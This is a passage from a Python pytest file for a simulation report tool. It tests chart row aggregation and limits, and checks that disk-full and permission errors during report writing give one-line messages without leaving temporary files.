    # the aggregated rows have a bar (earliest P10 to latest P90) and no median marker
    markers = {y for d in chart.figure.data if d["mode"] == "markers" for y in d["y"]}
    assert not any(y.startswith("+") for y in markers)


def test_a_timeline_that_fits_is_unchanged():
    table = projects()
    chart = timeline_chart(table)
    assert "aggregated" not in chart.figure.layout["title"]["text"] and chart.figure.layout["height"] == 300


def test_the_waits_chart_shows_the_longest_waits_only(tmp_path):
    from sim.report.charts import limits_chart

    n = 300
    table = pd.DataFrame({"variant": "base", "project": [f"p{i}" for i in range(n)], "class": "general",
                          "grid_wait_months_mean": np.arange(n, dtype=float) + 1, "supply_wait_months_mean": 0.0})
    chart = limits_chart(monthly().query("metric == 'total_eflops'"), table)
    shown = chart.figure.data[0]["y"]
    assert len(shown) == TIMELINE_MAX_ROWS and shown[0] == f"p{n - TIMELINE_MAX_ROWS}"
    assert "the 48 longest of 300 projects that waited" in chart.figure.layout["title"]["text"]


# --- a report that cannot be written ----------------------------------------------------------------


def test_a_full_disk_is_one_line_and_no_temporary_file_is_left(tmp_path):
    """RLIMIT_FSIZE makes every write past 64 kB fail with EFBIG, as a full disk fails with ENOSPC
    (Python ignores SIGXFSZ); root cannot be kept from writing into a folder, a file size limit can."""
    folder = run_folder(tmp_path / "run")
    before = state(tmp_path)

    def limit():
        resource.setrlimit(resource.RLIMIT_FSIZE, (65_536, 65_536))

    done = capsim("report", folder, preexec_fn=limit)
    assert done.returncode == 2
    line = one_line(done)
    assert line.startswith(f"capsim: error: {folder / 'report.html'}: cannot write the report: ") and "large" in line
    assert state(tmp_path) == before


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EROFS, errno.EACCES, errno.EDQUOT])
def test_write_errors_are_one_line_through_the_api(tmp_path, monkeypatch, code):
    folder = run_folder(tmp_path / "run")
    before = state(tmp_path)
    real_replace = os.replace

    def failing(src, dst, *args, **kwargs):
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(page.os, "replace", failing)
    monkeypatch.setattr(page, "rename_noreplace", failing)  # a new file is renamed without replacing
    with pytest.raises(ScenarioError) as caught:
        sim.report.write(folder)
    assert str(caught.value) == f"{folder / 'report.html'}: cannot write the report: {os.strerror(code)}"
    assert state(tmp_path) == before
    monkeypatch.setattr(page.os, "replace", real_replace)

    def no_temporary(*args, **kwargs):
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(page.tempfile, "mkstemp", no_temporary)
    with pytest.raises(ScenarioError, match="cannot write the report"):
        sim.report.write(folder, xlsx=True)
    assert state(tmp_path) == before
